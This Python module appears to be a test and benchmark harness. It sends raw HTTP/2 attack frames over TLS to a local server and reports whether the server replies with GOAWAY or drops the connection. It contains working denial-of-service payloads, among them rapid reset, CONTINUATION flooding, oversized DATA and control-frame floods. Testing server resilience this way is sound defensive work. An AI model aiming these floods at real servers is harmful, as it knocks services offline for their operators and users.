"""HTTP/2 attacks on a TLS listener, as raw frames over a real TLS socket: for the tests and the benchmarks.

Each attack is an opening (the client preface and what sets the attack up) and a chunk of
frames sent over and over, while what the server sends is read (as a client that wants
answers would: a flood of PINGs is answered with PINGs) and scanned for its GOAWAY.
"""

from __future__ import annotations

import select
import socket
import ssl
import struct
import time
from dataclasses import dataclass

import hpack

__all__ = [
    "ATTACKS",
    "Outcome",
    "flood",
    "frame",
    "request_block",
    "PREFACE",
    "DATA",
    "HEADERS",
    "PRIORITY",
    "RST_STREAM",
    "SETTINGS",
    "PING",
    "GOAWAY",
    "WINDOW_UPDATE",
    "CONTINUATION",
    "END_STREAM",
    "END_HEADERS",
]

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 0x1, 0x4


def frame(kind: int, flags: int, stream: int, payload: bytes = b"", length: int | None = None) -> bytes:
    """One frame; `length` declares a length other than the payload's."""
    size = len(payload) if length is None else length
    return struct.pack(">I", size)[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_block(method: str, path: str) -> bytes:
    headers = [(":method", method), (":path", path), (":scheme", "https"), (":authority", "localhost")]
    return hpack.Encoder().encode(headers)


_OPEN = PREFACE + frame(SETTINGS, 0, 0)
_STREAM = frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block("GET", "/events/flooded"))
_UPLOAD = frame(HEADERS, END_HEADERS, 1, request_block("POST", "/events/flooded"))  # a body that never ends

ATTACKS: dict[str, tuple[bytes, bytes]] = {
    # A DATA frame declared larger than the 16 KiB allowed, then zeros: h2 kept them all.
    "oversized": (_OPEN + frame(DATA, 0, 1, length=(1 << 24) - 1), bytes(1 << 16)),
    # A header block that never ends: CONTINUATION after CONTINUATION, each 16 KiB.
    "continuation": (
        _OPEN + frame(HEADERS, 0, 1, request_block("GET", "/healthz")),
        frame(CONTINUATION, 0, 1, b"\x00" * (1 << 14)),
    ),  # fmt: skip
    # An open stream, then control frames as fast as they go, each kind on its own.
    "ping": (_OPEN + _STREAM, frame(PING, 0, 0, b"12345678") * 1000),
    "settings": (_OPEN + _STREAM, frame(SETTINGS, 0, 0) * 1000),
    "priority": (_OPEN + _STREAM, frame(PRIORITY, 0, 3, struct.pack(">IB", 1, 15)) * 1000),
    "window_update": (_OPEN + _STREAM, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 1000),
    "empty_data": (_OPEN + _UPLOAD, frame(DATA, 0, 1) * 1000),
    "rst_stream": (_OPEN + _STREAM, frame(RST_STREAM, 0, 1, struct.pack(">I", 8)) * 1000),
    # What costs the server more per frame than it seems to.
    "settings_entries": (
        _OPEN + _STREAM,  # h2 kept every setting, known or not
        frame(SETTINGS, 0, 0, b"".join(struct.pack(">HI", 0x100 + n, n) for n in range(2730))),
    ),
    "padded_data": (_OPEN + _UPLOAD, frame(DATA, 0x8, 1, b"\x00") * 1000),  # DATA of padding only
    "data_on_a_closed_stream": (
        _OPEN + frame(HEADERS, END_HEADERS | END_STREAM, 1, request_block("GET", "/healthz")),
        frame(DATA, 0, 1, b"x") * 1000,
    ),  # each answered with RST_STREAM
    "rapid_reset": (
        _OPEN,
        b"".join(
            frame(HEADERS, END_HEADERS | END_STREAM, n, request_block("GET", "/events/r"))
            + frame(RST_STREAM, 0, n, struct.pack(">I", 8))
            for n in range(1, 1001, 2)
        ),
    ),
}


@dataclass
class Outcome:
    sent: int
    """Bytes of the attack the server's socket took."""
    goaway: int | None
    """The error code of the server's GOAWAY, if one came."""
    closed: bool
    """The server closed the connection: sending failed (after TLS ended, a server may still read)."""
    seconds: float
    """From the first byte to the close (or to the end of the attack)."""


def connect(port: int, cafile: str) -> ssl.SSLSocket:
    context = ssl.create_default_context(cafile=cafile)
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=10), server_hostname="localhost")
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    return sock


def flood(port: int, cafile: str, attack: str | tuple[bytes, bytes], seconds: float, max_bytes: int = 1 << 40
          ) -> Outcome:  # fmt: skip
    """Run `attack` (a name in ATTACKS, or an opening and a chunk) on one TLS connection for `seconds` at most,
    or until the server closes."""
    opening, chunk = ATTACKS[attack] if isinstance(attack, str) else attack
    sock = connect(port, cafile)
    sock.setblocking(False)
    frames = _GoawayReader()
    start = time.monotonic()
    pending, sent, closed, reading = memoryview(opening), 0, False, True
    try:
        while time.monotonic() - start < seconds and not closed:
            if not pending and sent < max_bytes:
                pending = memoryview(chunk)
            readable, writable, _ = select.select([sock] if reading else [], [sock] if pending else [], [], 0.05)
            if reading and (readable or sock.pending()):
                # The end of TLS (close_notify) is not the end: a server that still reads takes more.
                reading = frames.read(sock)
            if writable:
                try:
                    count = sock.send(pending)
                except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                    continue
                except OSError:
                    closed = True
                    break
                pending, sent = pending[count:], sent + count
        if closed and reading:
            frames.drain(sock)
        return Outcome(sent, frames.goaway, closed, time.monotonic() - start)
    finally:
        sock.close()


class _GoawayReader:
    """Reads what the server sends, frame by frame, and keeps the GOAWAY's error code."""

    def __init__(self) -> None:
        self.buffer = b""
        self.goaway: int | None = None

    def read(self, sock: ssl.SSLSocket) -> bool:
        """False once the connection is closed."""
        try:
            data = sock.recv(1 << 16)
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            return True
        except OSError:
            return False
        if not data:
            return False
        self.buffer += data
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                break
            if self.buffer[3] == GOAWAY and length >= 8:
                self.goaway = int.from_bytes(self.buffer[13:17], "big")
            self.buffer = self.buffer[9 + length :]
        return True

    def drain(self, sock: ssl.SSLSocket) -> None:
        """Read what is still on its way after the close was noticed (the GOAWAY may be in it)."""
        deadline = time.monotonic() + 2
        while self.goaway is None and time.monotonic() < deadline:
            select.select([sock], [], [], 0.05)
            if not self.read(sock) and not sock.pending():
                break
